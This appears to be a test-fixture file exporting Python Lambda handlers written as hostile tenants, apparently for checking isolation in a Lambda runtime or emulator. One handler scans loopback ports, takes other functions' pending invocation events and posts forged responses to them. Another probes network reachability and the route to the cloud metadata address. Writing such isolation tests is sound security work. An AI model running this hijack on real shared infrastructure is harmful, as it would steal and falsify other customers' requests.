/**
 * Hostile Python functions (stdlib only, as a tenant without dependencies would write them).
 * Same attacks and report shapes as the Node.js ones in hostile-node.ts.
 */

export const PYTHON_ENV_REPORT = `import os

def handler(event, context):
    return {"canary": os.environ.get("LAMBDA_CANARY")}
`;

/** See NODE_HIJACKER: the same hijack with threads and http.client. */
export const PYTHON_HIJACKER = `import http.client
import json
import os
import re
import socket
import threading
import time

NEXT = "/2018-06-01/runtime/invocation/next"


def loopback(addr):
    if len(addr) == 8:
        return addr.endswith("7F") or addr == "00000000"
    return (addr == "0" * 32 or addr == "00000000000000000000000001000000"
            or (addr.startswith("0000000000000000FFFF0000") and addr.endswith("7F")))


def listening():
    ports = set()
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(name) as f:
                lines = f.read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            cols = line.split()
            if len(cols) > 3 and cols[3] == "0A":
                addr, port = cols[1].split(":")
                if loopback(addr):
                    ports.add(int(port, 16))
    return ports


def request(port, method, path, body=None):
    conn = http.client.HTTPConnection("127.0.0.1", port, timeout=1.5)
    try:
        conn.request(method, path, body=body)
        res = conn.getresponse()
        return {"kind": "answer", "status": res.status,
                "requestId": res.getheader("lambda-runtime-aws-request-id"),
                "body": res.read(300).decode("utf-8", "replace")}
    except socket.timeout:
        return {"kind": "parked"}
    except OSError as e:
        return {"kind": "error", "code": type(e).__name__}
    finally:
        conn.close()


def handler(event, context):
    m = re.match(r"^127\\.0\\.0\\.1:(\\d+)$", os.environ.get("AWS_LAMBDA_RUNTIME_API", ""))
    skip = set(event.get("skipPorts", [])) | ({int(m.group(1))} if m else set())
    deadline = time.time() + event["durationMs"] / 1000
    ports, stolen, threads = {}, [], []
    lock = threading.Lock()

    def probe(port, s):
        r = request(port, "GET", NEXT)
        with lock:
            if r["kind"] == "parked":
                s["parked"] += 1
                return
            if r["kind"] == "error" or not r["requestId"]:
                s["lastAnswer"] = time.time()
                key = "errors" if r["kind"] == "error" else "answers"
                if len(s[key]) < 5:
                    s[key].append(r.get("code") or r.get("status"))
                return
        body = json.dumps({"hijackedBy": os.environ.get("AWS_LAMBDA_FUNCTION_NAME")})
        forged = request(port, "POST", "/2018-06-01/runtime/invocation/%s/response" % r["requestId"], body)
        with lock:
            stolen.append({"port": port, "requestId": r["requestId"], "event": r["body"],
                           "forgedAnswer": forged.get("status") or forged["kind"]})

    scanned = 0
    while time.time() < deadline:
        if time.time() - scanned > 0.5:
            scanned = time.time()
            for p in list(listening()) + list(event.get("extraPorts", [])):
                if p not in skip and p not in ports:
                    ports[p] = {"parked": 0, "answers": [], "errors": [], "lastAnswer": 0}
        for port, s in list(ports.items()):
            with lock:
                if time.time() - s["lastAnswer"] < 1:
                    continue
            t = threading.Thread(target=probe, args=(port, s), daemon=True)
            t.start()
            threads.append(t)
        time.sleep(0.1)
    for t in threads:
        t.join()
    probed = {str(p): {k: v for k, v in s.items() if k != "lastAnswer"} for p, s in ports.items()}
    return {"stolen": stolen, "probed": probed}
`;

/** See NODE_NETWORK_PROBE; the positive control is an HTTP answer from AWS_ENDPOINT_URL. */
export const PYTHON_NETWORK_PROBE = `import os
import subprocess
import urllib.error
import urllib.request

NO_PROXY = urllib.request.build_opener(urllib.request.ProxyHandler({}))


def reach(url):
    try:
        with NO_PROXY.open(url, timeout=4) as r:
            return {"url": url, "reached": True, "detail": "HTTP %d" % r.status}
    except urllib.error.HTTPError as e:
        return {"url": url, "reached": True, "detail": "HTTP %d" % e.code}
    except Exception as e:
        return {"url": url, "reached": False, "detail": "%s: %s" % (type(e).__name__, str(e)[:80])}


def handler(event, context):
    urls = event["urls"].split(" ")
    engine = "http://127.0.0.1:%d" % event["enginePort"]
    if os.environ.get("AWS_ENDPOINT_URL", "").rstrip("/") != engine:
        urls.append(engine + "/")
    ip = next((p for p in ("/usr/sbin/ip", "/usr/bin/ip") if os.path.exists(p)), None)
    route_get = None
    if ip:
        r = subprocess.run([ip, "route", "get", "169.254.169.254"], capture_output=True, text=True)
        route_get = r.stdout + r.stderr
    with open("/proc/net/route") as f:
        proc_route = f.read()
    return {
        "attempts": [reach(u) for u in urls],
        "endpoint": reach(os.environ["AWS_ENDPOINT_URL"].rstrip("/") + "/2015-03-31/functions"),
        "procRoute": proc_route,
        "ipRouteGet": route_get,
    }
`;
